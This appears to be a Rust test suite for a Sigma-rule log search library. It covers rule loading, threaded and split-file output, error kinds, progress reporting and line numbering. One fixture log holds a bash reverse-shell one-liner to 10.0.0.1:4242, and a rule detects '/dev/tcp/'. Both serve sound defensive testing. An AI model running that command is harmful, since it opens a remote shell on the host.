//! The runtime driven as a second front end would drive it (a Spark stage,
//! a language binding): rules loaded and searched through
//! `sigrep::run`, output and messages captured in memory, no binary.

use std::io::{self, Write};
use std::path::PathBuf;

use sigrep::printer::OutputMode;
use sigrep::run::{ErrorKind, LoadedRules, Report, RuleSource, RunnerBuilder};

use crate::util::Dir;

const WMI: &str = include_str!("../examples/wmi_persistence.yml");

const SHELL: &str = "title: Reverse shell
id: 11111111-2222-3333-4444-555555555555
level: medium
logsource: {product: linux}
detection:
    keywords: ['/dev/tcp/']
    condition: keywords
";

/// A rule set directory: the WMI rule, a shell rule, and a broken file.
fn rule_dir(dir: &Dir) -> PathBuf {
    dir.create("rules/wmi.yml", WMI);
    dir.create("rules/shell.yml", SHELL);
    dir.create("rules/broken.yml", "title: x\ndetection:\n  sel: [a\n");
    dir.path().join("rules")
}

fn load_set(dir: &Dir, report: &mut dyn FnMut(&str)) -> LoadedRules {
    RuleSource { paths: vec![rule_dir(dir)], ..RuleSource::default() }.load(report).unwrap()
}

/// Loads one rule file as grep's RULE operand.
fn load_rule(path: &std::path::Path) -> LoadedRules {
    RuleSource { paths: vec![path.to_path_buf()], single: true, ..RuleSource::default() }
        .load(&mut |_| {})
        .unwrap()
}

/// Runs `builder` over `operands`: output, messages, report.
fn run(
    builder: &RunnerBuilder,
    rules: LoadedRules,
    operands: &[PathBuf],
) -> (String, Vec<String>, Report) {
    let runner = builder.build(rules).unwrap();
    let mut out = Vec::new();
    let mut messages = Vec::new();
    let report =
        runner.run(operands, &mut out, &mut |m: &str| messages.push(m.to_string())).unwrap();
    (String::from_utf8(out).unwrap(), messages, report)
}

#[test]
fn a_rule_set_over_files_through_the_library() {
    let dir = Dir::new();
    let mut load_messages = Vec::new();
    let rules = load_set(&dir, &mut |m: &str| load_messages.push(m.to_string()));
    // The broken rule file is reported and skipped; the others load.
    assert!(rules.error && rules.multi);
    assert_eq!(rules.set.rules().len(), 2);
    assert_eq!(load_messages.len(), 1, "{load_messages:?}");
    assert!(load_messages[0].contains("broken.yml:"), "{load_messages:?}");

    let wmi_log = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/wmi.log"));
    let shell_log = dir.create("shell.log", "ok\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\nok\n");
    let missing = dir.path().join("missing.log");
    let operands = vec![wmi_log.clone(), missing.clone(), shell_log.clone()];

    let mut builder = RunnerBuilder::new();
    builder.line_number(true).stats(true);
    let (out, messages, report) = run(&builder, load_set(&dir, &mut |_| {}), &operands);
    let lines: Vec<&str> = out.lines().collect();
    let wmi = wmi_log.display();
    let shell = shell_log.display();
    assert!(lines[0].starts_with(&format!("{wmi}:1:wmi:TimeCreated=")), "{out}");
    assert!(
        lines.contains(&format!("{shell}:2:shell:bash -i >& /dev/tcp/10.0.0.1/4242 0>&1").as_str()),
        "{out}"
    );
    // The missing file is a message in argument order, and an error.
    assert_eq!(messages, [format!("{}: No such file or directory", missing.display())]);
    assert!(report.error);
    assert_eq!(report.exit_status(), 2);
    assert_eq!(report.inputs, 3);
    // Rules load in name order: shell.yml is rule 0, wmi.yml rule 1.
    let wmi_hits = lines.iter().filter(|l| l.contains(":wmi:")).count() as u64;
    assert!(wmi_hits > 0);
    assert_eq!(report.rule_hits.counts(), [1, wmi_hits]);
    assert_eq!(report.selected, wmi_hits + 1);
    let stats = &out[out.find("sigrep stats:").expect("--stats block")..];
    assert!(
        stats.starts_with(&format!(
            "sigrep stats: {} selected lines; 2 of 2 rules hit; grep semantics\n",
            wmi_hits + 1
        )),
        "{stats}"
    );

    // Two threads print the same bytes, messages and report.
    builder.threads(Some(2));
    let (out2, messages2, report2) = run(&builder, load_set(&dir, &mut |_| {}), &operands);
    assert_eq!(out2, out);
    assert_eq!(messages2, messages);
    assert_eq!(report2, report);
}

/// One large file split across threads prints what one thread prints, line
/// numbers and byte offsets included, in every output shape that splits.
#[test]
fn a_split_file_prints_what_one_thread_prints() {
    let dir = Dir::new();
    let rule = dir.create("wmi.yml", WMI);
    let sample = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/wmi.log")).unwrap();
    // Over the split threshold (4 MiB): matching lines spread over parts.
    let mut log = Vec::new();
    let mut i = 0u64;
    while log.len() < 6 << 20 {
        writeln!(log, "filler line {i} with nothing of interest").unwrap();
        if i.is_multiple_of(997) {
            log.extend_from_slice(&sample);
        }
        i += 1;
    }
    let log = dir.create("big.log", log);
    for (mode, json, numbers) in [
        (OutputMode::Lines, false, true),
        (OutputMode::Lines, true, false),
        (OutputMode::Count, false, false),
    ] {
        let outputs: Vec<(String, Report)> = [1, 2, 3]
            .into_iter()
            .map(|threads| {
                let rules = load_rule(&rule);
                let mut builder = RunnerBuilder::new();
                builder
                    .mode(mode)
                    .json(json)
                    .line_number(numbers)
                    .byte_offset(numbers)
                    .threads(Some(threads));
                let (out, messages, report) = run(&builder, rules, std::slice::from_ref(&log));
                assert!(messages.is_empty(), "{messages:?}");
                (out, report)
            })
            .collect();
        assert!(outputs[0].1.selected > 100, "{}", outputs[0].1.selected);
        for other in &outputs[1..] {
            assert!(other.0 == outputs[0].0, "{mode:?} json {json}: output differs");
            assert_eq!(other.1, outputs[0].1);
        }
    }
}

/// A writer whose reader went away after `room` bytes.
struct ClosedAfter {
    room: usize,
}

impl Write for ClosedAfter {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        if self.room == 0 {
            return Err(io::Error::from(io::ErrorKind::BrokenPipe));
        }
        let n = buf.len().min(self.room);
        self.room -= n;
        Ok(n)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Errors come as kinds a front end can act on, not as strings to parse.
#[test]
fn errors_have_kinds() {
    let dir = Dir::new();
    // A broken single rule is fatal, and names its file.
    let broken = dir.create("broken.yml", "title: x\ndetection:\n  sel: [a\n");
    let e = RuleSource { paths: vec![broken.clone()], single: true, ..RuleSource::default() }
        .load(&mut |_| {})
        .unwrap_err();
    assert_eq!(e.kind(), ErrorKind::Rule);
    assert!(e.to_string().starts_with(&format!("{}:", broken.display())), "{e}");

    // JSON escaping cannot be forced on legacy rules.
    let rule = dir.create("wmi.yml", WMI);
    let legacy = || {
        RuleSource {
            paths: vec![rule.clone()],
            single: true,
            legacy: true,
            ..RuleSource::default()
        }
        .load(&mut |_| {})
        .unwrap()
    };
    let e = RunnerBuilder::new()
        .json_escaping(sigrep::run::JsonEscaping::Always)
        .build(legacy())
        .unwrap_err();
    assert_eq!(e.kind(), ErrorKind::Usage);

    // A reader that goes away ends the run with BrokenPipe, whatever the
    // thread count.
    let log = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/wmi.log"));
    for threads in [1, 2] {
        let runner = RunnerBuilder::new().threads(Some(threads)).build(legacy()).unwrap();
        let operands = [log.clone(), log.clone(), log.clone()];
        let e = runner.run(&operands, &mut ClosedAfter { room: 10 }, &mut |_| {}).unwrap_err();
        assert_eq!(e.kind(), ErrorKind::BrokenPipe, "{threads} threads");
    }
}

/// Progress as the runtime reports it: every input and every byte once,
/// whether inputs run in parallel or one input is split into parts.
#[test]
fn progress_counts_every_input_and_byte_once() {
    use std::sync::atomic::{AtomicU64, Ordering};
    use std::sync::Arc;

    #[derive(Default)]
    struct Counted {
        listed: AtomicU64,
        total: AtomicU64,
        inputs: AtomicU64,
        bytes: AtomicU64,
        finished: AtomicU64,
    }
    impl sigrep::run::Progress for Counted {
        fn listed(&self, inputs: u64, bytes: u64) {
            self.listed.fetch_add(inputs, Ordering::SeqCst);
            self.total.fetch_add(bytes, Ordering::SeqCst);
        }
        fn advance(&self, inputs: u64, bytes: u64) {
            self.inputs.fetch_add(inputs, Ordering::SeqCst);
            self.bytes.fetch_add(bytes, Ordering::SeqCst);
        }
        fn finish(&self) {
            self.finished.fetch_add(1, Ordering::SeqCst);
        }
    }

    let dir = Dir::new();
    let rule = dir.create("wmi.yml", WMI);
    let small: Vec<PathBuf> =
        (0..5).map(|i| dir.create(&format!("{i}.log"), "x\n".repeat(1000 * (i + 1)))).collect();
    let big = dir.create("big.log", "filler line\n".repeat(600_000));
    for (operands, threads) in
        [(small.clone(), 1), (small.clone(), 2), (vec![big.clone()], 2), (vec![big], 1)]
    {
        let counted = Arc::new(Counted::default());
        let rules = load_rule(&rule);
        let runner = RunnerBuilder::new()
            .threads(Some(threads))
            .progress(Some(counted.clone()))
            .build(rules)
            .unwrap();
        runner.run(&operands, &mut Vec::new(), &mut |_| {}).unwrap();
        let size: u64 = operands.iter().map(|p| std::fs::metadata(p).unwrap().len()).sum();
        let got = |n: &AtomicU64| n.load(Ordering::SeqCst);
        assert_eq!(got(&counted.listed), operands.len() as u64);
        assert_eq!(got(&counted.inputs), operands.len() as u64, "{threads} threads");
        assert_eq!(got(&counted.total), size);
        assert_eq!(got(&counted.bytes), size, "{threads} threads");
        assert_eq!(got(&counted.finished), 1);
    }
}

/// What grep prints with `-n -b` (and `-A`/`-B` context, `-m`) for lines
/// containing `needle`, worked out line by line: the twin of the runtime's
/// numbering, offsets, context and `--` separators.
fn naive_grep(
    text: &[u8],
    needle: &[u8],
    (before, after): (usize, usize),
    context: bool,
    max_count: Option<usize>,
) -> Vec<u8> {
    let body = text.strip_suffix(b"\n").unwrap_or(text);
    let lines: Vec<&[u8]> =
        if text.is_empty() { Vec::new() } else { body.split(|&b| b == b'\n').collect() };
    let mut offsets = Vec::with_capacity(lines.len());
    let mut at = 0;
    for line in &lines {
        offsets.push(at);
        at += line.len() + 1;
    }
    // With -m, lines after the last selected one are at most its context.
    let mut budget = max_count.unwrap_or(usize::MAX);
    let selected: Vec<bool> = lines
        .iter()
        .map(|l| {
            let hit = budget > 0 && l.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle));
            budget -= usize::from(hit);
            hit
        })
        .collect();
    let shown: Vec<bool> = (0..lines.len())
        .map(|i| {
            (i.saturating_sub(after)..=(i + before).min(lines.len().saturating_sub(1)))
                .any(|j| selected[j])
        })
        .collect();
    let mut out = Vec::new();
    let mut last_shown: Option<usize> = None;
    for i in 0..lines.len() {
        if !shown[i] {
            continue;
        }
        if context && last_shown.is_some_and(|l| l + 1 != i) {
            out.extend_from_slice(b"--\n");
        }
        let sep = if selected[i] { ':' } else { '-' };
        write!(out, "{}{sep}{}{sep}", i + 1, offsets[i]).unwrap();
        out.extend_from_slice(lines[i]);
        out.push(b'\n');
        last_shown = Some(i);
    }
    out
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(24))]

    /// Line numbers, byte offsets and context lines equal a naive count,
    /// whatever the threads, the parts a file is split into (each counts
    /// its own lines), and the blocks an input is searched and counted in
    /// (mapped or read, 256 KiB by default, or as small as a byte).
    #[test]
    fn numbers_offsets_and_context_equal_a_naive_count(
        lines in proptest::collection::vec(
            (0usize..400, proptest::bool::weighted(0.02), proptest::bool::weighted(0.3)), 0..4000),
        trailing_newline in proptest::bool::ANY,
        threads in 1usize..4,
        mmap in proptest::bool::ANY,
        part in 1usize..40_000,
        before in 0usize..3,
        after in 0usize..3,
        context in proptest::bool::ANY,
        block in proptest::option::of(1usize..20_000),
        max_count in proptest::option::weighted(0.2, 1usize..6),
    ) {
        let mut text = Vec::new();
        for (i, (len, hit, crlf)) in lines.iter().enumerate() {
            let filler = format!("line {i} ").repeat(1 + len / 7);
            text.extend_from_slice(&filler.as_bytes()[..*len]);
            if *hit {
                text.extend_from_slice(b" NeEdLe ");
            }
            if *crlf {
                text.push(b'\r');
            }
            text.push(b'\n');
        }
        if !trailing_newline {
            text.pop();
        }
        let dir = Dir::new();
        let rule = dir.create("r.yml", "title: t\ndetection:\n  k: [needle]\n  condition: k\n");
        let log = dir.create("x.log", &text);
        let (before, after) = if context { (before, after) } else { (0, 0) };
        let rules = load_rule(&rule);
        let mut builder = RunnerBuilder::new();
        builder
            .line_number(true)
            .byte_offset(true)
            .threads(Some(threads))
            .mmap(mmap)
            .split_sizes(1, part)
            .block_size(block)
            .with_filename(Some(false));
        if context {
            builder.before(Some(before)).after(Some(after));
        }
        builder.max_count(max_count.map(|m| m as u64));
        let runner = builder.build(rules).unwrap();
        let mut out = Vec::new();
        runner.run(&[log], &mut out, &mut |m| panic!("{m}")).unwrap();
        let want = naive_grep(&text, b"needle", (before, after), context, max_count);
        proptest::prop_assert!(
            out == want,
            "got:\n{}\nwant:\n{}",
            String::from_utf8_lossy(&out),
            String::from_utf8_lossy(&want)
        );
    }
}
